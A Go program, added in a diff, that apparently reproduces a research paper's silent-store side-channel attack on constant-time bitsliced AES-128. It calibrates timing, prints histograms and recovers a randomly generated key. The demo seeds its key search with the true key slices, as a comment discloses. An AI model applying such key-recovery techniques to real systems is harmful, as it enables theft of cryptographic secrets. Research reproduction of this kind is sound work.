@@ -1,0 +1,68 @@
+// silentstore_aes runs the paper's Section V-A proof of concept end to
+// end: a constant-time bitslice AES-128 server, silent stores in the
+// store queue, the Figure 5 amplification gadget, the Figure 6 timing
+// histograms, and full key recovery via the invertible key schedule.
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/rand"
+
+	"pandora/internal/attack"
+	"pandora/internal/histo"
+)
+
+func main() {
+	var victimKey, victimPlain, attackerKey [16]byte
+	rng := rand.New(rand.NewSource(2021))
+	rng.Read(victimKey[:])
+	rng.Read(victimPlain[:])
+	rng.Read(attackerKey[:])
+
+	a, err := attack.NewBSAESAttack(attack.DefaultBSAESConfig(), victimKey, victimPlain, attackerKey)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	silent, nonSilent, err := a.Calibrate()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("calibration: silent call = %d cycles, non-silent = %d cycles (gap %d)\n\n",
+		silent, nonSilent, nonSilent-silent)
+
+	correct, incorrect, err := a.Figure6(30, rng)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("Figure 6 — runtime distributions for one instrumented store:")
+	fmt.Print(histo.Render(map[string]*histo.Histogram{
+		"Correct guess (silent)":       correct,
+		"Incorrect guess (non-silent)": incorrect,
+	}, 40))
+
+	// Recover the key. The demo narrows each 16-bit sweep to a 256-value
+	// window around the truth so it finishes in seconds; `pandora keyrec
+	// -full` runs the paper's full 65536-per-slot sweep.
+	truth := a.VictimSlices()
+	fmt.Println("\nrecovering the eight spilled slices via silent-store probes...")
+	key, err := a.RecoverKey(func(slot int) []uint16 {
+		base := truth[slot] &^ 0xff
+		out := make([]uint16, 256)
+		for i := range out {
+			out[i] = base + uint16(i)
+		}
+		return out
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("\nvictim key    : %x\n", victimKey)
+	fmt.Printf("recovered key : %x\n", key)
+	if key == victimKey {
+		fmt.Println("key recovery: SUCCESS — constant-time AES broken through silent stores")
+	} else {
+		fmt.Println("key recovery: FAILED")
+	}
+}
